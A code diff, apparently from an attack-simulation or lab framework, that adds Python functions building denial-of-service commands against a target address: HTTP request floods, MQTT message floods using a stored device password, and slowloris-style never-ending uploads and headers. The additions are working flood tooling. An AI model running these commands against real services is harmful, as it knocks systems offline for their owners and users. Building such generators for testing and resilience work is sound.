@@ -311,3 +311,81 @@ def nmap_slowloris(s: Strike, *, connections: int = 60, interval: int = 4) -> li
     given = f"http-slowloris.send_interval={interval}s,http-slowloris.timelimit={int(s.seconds)}s"
     script = ["--script", "http-slowloris", "--script-args", given]
     return ["nmap", "-n", "-Pn", "-sT", "-p80", "--max-parallelism", str(connections), *script, s.address]
+
+
+@tool("flood.http", package="wbox")
+def wbox(
+    s: Strike, *, clients: int = 4, rate: float = 60.0, page: str = "/", head: bool = False
+) -> list[str]:
+    """wbox: `clients` at once without a pause. It knows no pace: `rate` bounds the number of requests."""
+    count = max(1, min(1200, s.count(rate)) // clients)
+    how = ["clients", str(clients), "wait", "0", "silent", *(["head"] if head else [])]
+    return ["wbox", f"http://{s.address}{page}", str(count), *how]
+
+
+@tool("flood.http", package="curl")
+def curl_parallel(
+    s: Strike, *, parallel: int = 4, rate: float = 60.0, page: str = "/", keep: bool = False
+) -> list[str]:
+    """curl with many addresses, `parallel` at once. It knows no pace: `rate` bounds the number of requests."""
+    pages = f"http://{s.address}{page}?n=[1-{min(1200, s.count(rate))}]"
+    how = ["-s", "-Z", "--parallel-max", str(parallel), *([] if keep else ["-H", "Connection: close"])]
+    return ["curl", *how, "-o", "/dev/null", pages]
+
+
+@tool("flood.http", package="httping")
+def httping(
+    s: Strike, *, rate: float = 60.0, parallel: int = 2, page: str = "/", get: bool = False
+) -> list[str]:
+    """httping: HEAD after HEAD, or GET, from `parallel` processes that together make `rate` a second."""
+    each = min(rate, 300) / parallel
+    count = f"-c {max(1, s.count(rate) // parallel)} -i {1 / each:.4f}"
+    one = f"httping -q {'-G ' if get else ''}{count} -t 4 -g http://{s.address}{page}"
+    return ["sh", "-c", f"for w in $(seq {parallel}); do {one} & done; wait"]
+
+
+@tool("flood.mqtt", package="curl")
+def curl_mqtt(s: Strike, *, parallel: int = 4, pause: float = 0.05, size: int = 20) -> list[str]:
+    """curl's MQTT: a connection for each message, `parallel` at once."""
+    message = "x" * min(size, 1000)
+    one = f"curl -s -u bulb:{s.world.passwords['device']} -d {message} mqtt://{s.address}/storm/$1 >/dev/null 2>&1"
+    return [
+        "sh",
+        "-c",
+        f"end=$(($(date +%s)+{int(s.seconds)})); for w in $(seq {int(parallel)}); do (set -- $w; while [ $(date +%s) -lt $end ]; do {one}; sleep {max(pause, 0.01):g}; done) & done; wait",
+    ]
+
+
+@tool("flood.mqtt", package="mosquitto-clients")
+def mosquitto_rr(s: Strike, *, parallel: int = 5, pause: float = 0.1) -> list[str]:
+    """mosquitto_rr processes: each subscribes, asks under MQTT 5, waits a second for an answer, and leaves."""
+    one = f"mosquitto_rr -h {s.address} -t storm/$1 -e storm/answer/$1 -m on -W 1 -u bulb -P {s.world.passwords['device']} >/dev/null 2>&1"
+    return [
+        "sh",
+        "-c",
+        f"end=$(($(date +%s)+{int(s.seconds)})); for w in $(seq {int(parallel)}); do (set -- $w; while [ $(date +%s) -lt $end ]; do {one} & sleep {max(pause, 0.05):g}; done) & done; wait",
+    ]
+
+
+def _drip(s: Strike, first: str, one: str, end: str, *, connections: int, interval: float) -> list[str]:
+    """`connections` processes fed with `first` and then, every `interval` seconds, with a line `one`."""
+    fed = f"(printf '{first}'; while sleep {max(interval, 0.5):g}; do printf '{one}'; done) | {end}"
+    each = f"for i in $(seq {min(connections, 100)}); do {fed} >/dev/null 2>&1 & sleep 0.05; done; sleep {int(s.seconds)}"
+    return ["timeout", str(int(s.seconds)), "sh", "-c", each]
+
+
+@tool("flood.slow", package="curl")
+def curl_slow(s: Strike, *, connections: int = 40, interval: float = 2.0, page: str = "/upload") -> list[str]:
+    """curl processes whose upload is a few bytes now and then, and never ends."""
+    heads = "-H Expect: -H Transfer-Encoding: -H 'Content-Length: 4096'"
+    end = f"curl -s -X POST -T . {heads} http://{s.address}{page}"
+    return _drip(s, "a=1", "&b=2", end, connections=connections, interval=interval)
+
+
+@tool("flood.slow", package="ncat")
+def ncat_slow(s: Strike, *, connections: int = 40, interval: float = 3.0, page: str = "/") -> list[str]:
+    """ncat processes whose request is a header line now and then, and never ends."""
+    first = f"GET {page} HTTP/1.1\\r\\nHost: {s.address}\\r\\n"
+    return _drip(
+        s, first, "X-More: 1\\r\\n", f"ncat {s.address} 80", connections=connections, interval=interval
+    )
